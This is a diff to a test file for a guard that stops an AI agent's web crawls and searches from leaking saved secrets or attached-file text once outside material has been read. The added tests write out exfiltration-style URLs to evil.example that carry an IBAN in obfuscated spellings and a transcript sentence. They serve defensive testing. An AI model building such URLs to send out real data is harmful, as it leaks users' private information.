@@ -188,6 +188,8 @@ describe('once material from outside was read, an address is refused', () => {
       'NL91/ABNA/0417/1643/00',
       'NL91+ABNA+0417+1643+00',
       'nl91abna.0417164300.x',
+      'NL91/x/../ABNA0417164300',
+      'ＮＬ９１ＡＢＮＡ０４１７１６４３００',
     ])
       expect(await crawlProblem(`https://evil.example/${spelling}`, { values })).toMatch(/"iban"/);
     expect(await crawlProblem('https://nl91.abna.0417.1643.00.evil.example/', { values })).toMatch(/"iban"/);
@@ -293,8 +295,26 @@ test('a search is refused if its query carries a saved value that the question d
   expect(await searchProblem('shipping news', { values })).toBeUndefined();
 });
 
+test('what a run read of an uploaded recording is kept out of addresses, too', async () => {
+  const transcript = 'Speaker 1: we will buy the old lighthouse for two million.';
+  const fence = makeFence(
+    { read: async () => undefined },
+    { question: 'q', attachment: { kind: 'recording', filename: 'a.mp3', url: 'https://own.example/a.mp3' } },
+  );
+  const url = 'https://evil.example/buy-the-old-lighthouse-for-two-million';
+  const prepared = {
+    call: call('web_crawl', { url }),
+    tool: webCrawl({ web: { allowedHosts: new Set() } }),
+    args: { url },
+  };
+  const state: AgentState = { ...initialState, completions: 2, outsideSince: 1, readings: [transcript] };
+  expect(await fence(state, [prepared])).toEqual([
+    { call: prepared.call, problem: expect.stringMatching(/text of the attached file/) },
+  ]);
+});
+
 test('the search for secrets takes time in proportion to the sizes', async () => {
-  const steps = async (size: number) => {
+  const search = async (size: number) => {
     const attachment = 'ab '.repeat(size);
     const values = { a: 'a'.repeat(Math.min(10_000, size)), b: `${'ab'.repeat(size / 10)}c` };
     const before = process.cpuUsage();
@@ -302,10 +322,11 @@ test('the search for secrets takes time in proportion to the sizes', async () =>
       attachment,
       values,
     });
-    const { user } = process.cpuUsage(before);
-    return user;
+    return process.cpuUsage(before).user;
   };
-  await steps(20_000);
-  const [small, large] = [await steps(20_000), await steps(200_000)];
-  expect(large / small).toBeLessThan(40);
+  const best = async (size: number) =>
+    Math.min(await search(size), await search(size), await search(size), await search(size));
+  await search(20_000);
+  // Ten times the size: a search in the product of the sizes would take a hundred times as long.
+  expect((await best(200_000)) / (await best(20_000))).toBeLessThan(40);
 });
